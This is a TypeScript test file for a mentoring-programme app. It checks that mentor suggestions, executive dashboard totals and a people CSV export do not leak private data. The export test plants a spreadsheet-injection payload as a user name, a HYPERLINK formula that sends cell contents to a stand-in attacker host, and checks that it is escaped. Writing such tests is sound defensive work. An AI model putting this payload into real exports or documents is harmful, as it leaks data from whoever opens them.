import { describe, expect, it } from "vitest";
import type { Actor } from "@/lib/auth/permissions";
import { db } from "@/lib/db/client";
import { demoEmail } from "@/lib/db/seed/org-chart";
import { selfMatchProgram } from "@/lib/db/seed/programs";
import { seedDemoOrganisation } from "@/lib/db/seed/seed-demo";
import { executiveDashboard } from "@/lib/kpi/dashboard";
import { mentorSuggestions } from "@/lib/matching/self-match";
import { exportPeopleCsv } from "@/lib/people/export-people";
import { createActor, createUser } from "../factories";

async function actorFor(name: string): Promise<Actor> {
  const user = await db.user.findUniqueOrThrow({ where: { email: demoEmail(name) } });
  return { id: user.id, name: user.name, email: user.email, role: user.role };
}

describe("what leaves the server", () => {
  it("self-match reasons never quote what a mentor keeps from mentees", { timeout: 180_000 }, async () => {
    await seedDemoOrganisation(db);
    const program = await db.program.findUniqueOrThrow({ where: { slug: selfMatchProgram.slug } });
    const lena = await actorFor("Lena Fischer");
    const mentors = await db.participation.findMany({
      where: { programId: program.id, role: "MENTOR" },
      select: { id: true, userId: true, user: { select: { profile: true } } },
    });
    await db.profile.updateMany({ where: { userId: { in: mentors.map((m) => m.userId) } }, data: { sharedWithMentees: [] } });

    const { suggestions } = await mentorSuggestions(lena, program.id);
    expect(suggestions.length).toBeGreaterThan(0);
    for (const suggestion of suggestions) {
      const profile = mentors.find((m) => m.id === suggestion.mentorId)!.user.profile!;
      const kept = [...profile.skillsOffered, ...profile.interests, profile.learningStyle ?? "\u0000"].map((v) =>
        v.toLowerCase(),
      );
      const text = JSON.stringify(suggestion).toLowerCase();
      for (const value of kept) expect(text).not.toContain(value.toLowerCase());
    }
  });

  it("executive totals leave out programmes too small to report", async () => {
    const executive = await createActor("EXECUTIVE");
    const big = await db.program.create({ data: { slug: "big", name: "Big", status: "ENROLMENT" } });
    const small = await db.program.create({ data: { slug: "small", name: "Small", status: "ENROLMENT" } });
    for (let k = 0; k < 6; k += 1) {
      const user = await createUser();
      await db.participation.create({ data: { programId: big.id, userId: user.id, role: "MENTEE", status: "APPROVED" } });
    }
    for (let k = 0; k < 2; k += 1) {
      const user = await createUser();
      await db.participation.create({ data: { programId: small.id, userId: user.id, role: "MENTEE", status: "APPROVED" } });
    }
    const dashboard = await executiveDashboard(executive);
    expect(dashboard.programs.find((r) => r.id === small.id)?.participants).toBeNull();
    // A shown total beside one withheld row would give it away by subtraction (total − big = 2), so
    // either the total goes too or a second row is withheld with it.
    const withheld = dashboard.programs.filter((r) => r.participants === null);
    expect(dashboard.participants === null || withheld.length >= 2).toBe(true);
    expect(dashboard.participants === null || dashboard.participants === 8).toBe(true);
  });

  it("the people export escapes spreadsheet formulas typed into profile fields", async () => {
    const coordinator = await createActor("COORDINATOR");
    await createUser({ name: '=HYPERLINK("https://evil.example/?"&A1,"Open")' });
    const csv = await exportPeopleCsv(coordinator);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(csv).toContain(`'=HYPERLINK`);
  });
});
